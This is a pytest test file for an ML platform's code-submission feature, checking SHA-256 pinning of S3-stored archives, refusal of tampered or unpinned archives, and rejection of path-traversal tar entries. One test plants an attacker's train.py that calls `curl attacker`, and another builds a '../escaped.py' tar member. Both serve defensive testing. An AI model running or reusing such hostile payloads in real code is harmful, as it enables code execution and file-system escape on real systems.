"""`submit --code DIR`: a deterministic archive, pinned by SHA-256 in the team's S3 prefix, and a
launcher that refuses any other bytes. Tampering is done as an attacker with write access to the
team's prefix would (replace the object after submit), against moto's S3 and, from outside the
process, against the real launcher."""
from __future__ import annotations

import io
import os
import subprocess
import sys
import tarfile
from pathlib import Path

import boto3
import pytest
from moto import mock_aws

from jobs import usercode
from trainer import code_archive
from workloads.jobspec import parse_job_spec

ROOT = Path(__file__).resolve().parents[2]
BUCKET = "mlp-dev-checkpoints"


def _spec(**extra):
    raw = {"name": "own-ddp", "team": "research", "image": "111122223333.dkr.ecr.us-west-2.amazonaws.com/mlp-dev/trainer:1.0.0",
           "script": "train.py", "args": ["--steps", "60"], "gpuType": "l4", "nodes": 1, "gpusPerNode": 1,
           "dataset": "/fsx/datasets/tinystories/gpt2-v1", **extra}
    return parse_job_spec(raw)


@pytest.fixture
def code_dir(tmp_path):
    d = tmp_path / "code"
    (d / "pkg").mkdir(parents=True)
    (d / "train.py").write_text("print('hello')\n")
    (d / "pkg" / "__init__.py").write_text("")
    (d / "__pycache__").mkdir()
    (d / "__pycache__" / "train.cpython-311.pyc").write_bytes(b"\0")
    (d / "big.ckpt").write_bytes(b"x" * 10)
    (d / ".mlpignore").write_text("# checkpoints stay out\n*.ckpt\n")
    return d


def test_archive_is_deterministic_and_content_addressed(code_dir):
    first = usercode.archive(code_dir)
    assert first.files == (".mlpignore", "pkg/__init__.py", "train.py")  # caches and ignored files left out
    os.utime(code_dir / "train.py", (1, 1))  # a touched file is the same code
    assert usercode.archive(code_dir).sha256 == first.sha256
    (code_dir / "train.py").write_text("print('hello!')\n")
    assert usercode.archive(code_dir).sha256 != first.sha256


def test_links_and_empty_directories_are_refused_with_the_fix(code_dir, tmp_path):
    (code_dir / "data").symlink_to(tmp_path)
    with pytest.raises(usercode.CodeError) as err:
        usercode.archive(code_dir)
    assert "is a link or not a regular file (got 'data')" in str(err.value) and ".mlpignore" in str(err.value)
    empty = tmp_path / "empty"
    empty.mkdir()
    with pytest.raises(usercode.CodeError, match="has no files to ship"):
        usercode.archive(empty)


def test_pin_puts_the_archive_under_the_jobs_code_prefix_of_the_team(code_dir):
    code = usercode.archive(code_dir)
    spec = usercode.pin(_spec(), code, BUCKET, "dev")
    assert spec.code.uri == f"s3://{BUCKET}/team-research/code/own-ddp/{code.sha256}.tar.gz"
    assert spec.code.sha256 == code.sha256
    builtin = parse_job_spec({**_spec().model_dump(by_alias=True, exclude_none=True), "script": None, "args": [],
                              "trainer": {"config": "trainer/configs/tiny.yaml"}})
    with pytest.raises(usercode.CodeError) as err:
        usercode.pin(builtin, code, None, "dev")
    assert "built-in trainer" in str(err.value) and "no checkpoints bucket" in str(err.value)


@mock_aws
def test_upload_then_the_pod_verifies_and_a_replaced_object_is_refused(code_dir, tmp_path):
    s3 = boto3.client("s3", region_name="us-east-1")
    s3.create_bucket(Bucket=BUCKET)
    code = usercode.archive(code_dir)
    spec = usercode.pin(_spec(), code, BUCKET, "dev")
    assert usercode.upload(spec, code, s3_client=s3) is True
    assert usercode.upload(spec, code, s3_client=s3) is False  # same digest already there
    env = {"MLP_CODE_URI": spec.code.uri, "MLP_CODE_SHA256": spec.code.sha256, "MLP_CODE_DIR": str(tmp_path / "pod")}
    assert code_archive.materialize(env, s3_client=s3) == str(tmp_path / "pod")
    assert (tmp_path / "pod" / "train.py").read_text() == "print('hello')\n"

    # An attacker with write access to the team's prefix replaces the archive after submit.
    evil = code_dir.parent / "evil"
    evil.mkdir()
    (evil / "train.py").write_text("import os; os.system('curl attacker')\n")
    s3.put_object(Bucket=BUCKET, Key=spec.code.uri.split("/", 3)[3], Body=usercode.archive(evil).data)
    with pytest.raises(code_archive.CodeArchiveError, match="not the pinned"):
        code_archive.materialize({**env, "MLP_CODE_DIR": str(tmp_path / "pod2")}, s3_client=s3)
    assert not (tmp_path / "pod2").exists()  # nothing was unpacked


def test_an_unpinned_archive_is_not_run():
    with pytest.raises(code_archive.CodeArchiveError, match="run only pinned"):
        code_archive.materialize({"MLP_CODE_URI": "s3://b/k.tar.gz", "MLP_CODE_DIR": "/tmp/x"})


def test_members_escaping_the_directory_are_refused(tmp_path):
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w:gz") as tar:
        info = tarfile.TarInfo("../escaped.py")
        info.size = 1
        tar.addfile(info, io.BytesIO(b"x"))
    data = raw.getvalue()
    with pytest.raises(code_archive.CodeArchiveError, match="cannot unpack"):
        code_archive.unpack(data, str(tmp_path / "dest"))
    assert not (tmp_path / "escaped.py").exists()


def test_the_launcher_refuses_a_tampered_archive_before_torchrun_exit_2(code_dir, tmp_path):
    """From outside: the container's entrypoint, as the pod runs it, with the archive's bytes
    changed after the digest was pinned. Exit 2 is permanent under restartPolicy ExitCode."""
    code = usercode.archive(code_dir)
    stored = tmp_path / "bucket" / "code.tar.gz"
    stored.parent.mkdir()
    stored.write_bytes(code.data + b"\0")  # one byte appended in the bucket
    env = {"PATH": os.environ["PATH"], "PYTHONPATH": str(ROOT), "MLP_CODE_URI": f"file://{stored}",
           "MLP_CODE_SHA256": code.sha256, "MLP_CODE_DIR": str(tmp_path / "pod")}
    run = subprocess.run([sys.executable, "-m", "trainer.launch", "--standalone", "--nproc-per-node=1", "train.py"],
                         cwd=ROOT, env=env, capture_output=True, text=True, timeout=120)
    assert run.returncode == 2, run.stderr
    assert "not the pinned" in run.stderr and "not starting torchrun" in run.stderr
    assert "torchrun exited" not in run.stderr

    stored.write_bytes(code.data)  # the pinned bytes: torchrun runs the archive's train.py
    run = subprocess.run([sys.executable, "-m", "trainer.launch", "--standalone", "--nproc-per-node=1", "train.py"],
                         cwd=ROOT, env=env, capture_output=True, text=True, timeout=120)
    assert run.returncode == 0, run.stderr
    assert "hello" in run.stdout


def test_submit_code_uploads_the_archive_then_creates_the_job_pinned_to_it(monkeypatch, capsys, tmp_path):
    """`submit SPEC --stack dev --code DIR` against moto's S3 and the fake kubectl: the object
    lands at the pinned key before the job is created, and the job carries its digest."""
    from jobs import __main__ as cli
    from tests.jobs.conftest import use_fake_kubectl
    from tests.jobs.fake_kube import FakeKubeApi

    for name, value in {"AWS_ACCESS_KEY_ID": "testing", "AWS_SECRET_ACCESS_KEY": "testing",
                        "AWS_DEFAULT_REGION": "us-west-2"}.items():
        monkeypatch.setenv(name, value)
    state = use_fake_kubectl(tmp_path, monkeypatch)
    FakeKubeApi().save(state)
    example = ROOT / "examples" / "own-code"
    with mock_aws():
        facts = cli._facts("dev", False)
        s3 = boto3.client("s3", region_name="us-west-2")
        s3.create_bucket(Bucket=facts.checkpoints_bucket, CreateBucketConfiguration={"LocationConstraint": "us-west-2"})
        code = cli.main(["submit", str(example / "ddp.yaml"), "--stack", "dev", "--offline", "--code", str(example / "ddp")])
        assert code == 0, capsys.readouterr()
        job = FakeKubeApi.load(state).find("pytorchjobs.kubeflow.org", "own-ddp", "team-research")
        env = {e["name"]: e.get("value") for e in job["spec"]["pytorchReplicaSpecs"]["Master"]["template"]["spec"]["containers"][0]["env"]}
        bucket, key = env["MLP_CODE_URI"][len("s3://"):].split("/", 1)
        stored = s3.get_object(Bucket=bucket, Key=key)["Body"].read()
    assert code_archive.sha256_hex(stored) == env["MLP_CODE_SHA256"] == usercode.archive(example / "ddp").sha256
    assert key.startswith("team-research/code/own-ddp/")
    assert "uploaded to s3://" in capsys.readouterr().out


def test_submit_code_without_aws_credentials_is_one_line_and_creates_nothing(monkeypatch, capsys, tmp_path):
    """Review jobs-ops-4 §3 S5: `submit --code` without AWS credentials ended in botocore's
    NoCredentialsError traceback. Now: one line naming the archive's place and the fix, exit 4,
    and no job on the cluster (the upload comes before the create)."""
    from jobs import __main__ as cli
    from tests.jobs.conftest import use_fake_kubectl
    from tests.jobs.fake_kube import FakeKubeApi

    for name in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN", "AWS_PROFILE"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("AWS_CONFIG_FILE", str(tmp_path / "none"))
    monkeypatch.setenv("AWS_SHARED_CREDENTIALS_FILE", str(tmp_path / "none"))
    monkeypatch.setenv("AWS_EC2_METADATA_DISABLED", "true")
    monkeypatch.setenv("AWS_DEFAULT_REGION", "us-west-2")
    state = use_fake_kubectl(tmp_path, monkeypatch)
    FakeKubeApi().save(state)
    example = ROOT / "examples" / "own-code"
    code = cli.main(["submit", str(example / "ddp.yaml"), "--stack", "dev", "--offline", "--code", str(example / "ddp")])
    err = capsys.readouterr().err
    assert code == 4, err
    assert err.count("\n") == 1 and "Traceback" not in err
    assert err.startswith("error: cannot upload your code to s3://") and "Unable to locate credentials" in err
    assert "aws sso login" in err
    assert FakeKubeApi.load(state).find("pytorchjobs.kubeflow.org", "own-ddp", "team-research") is None
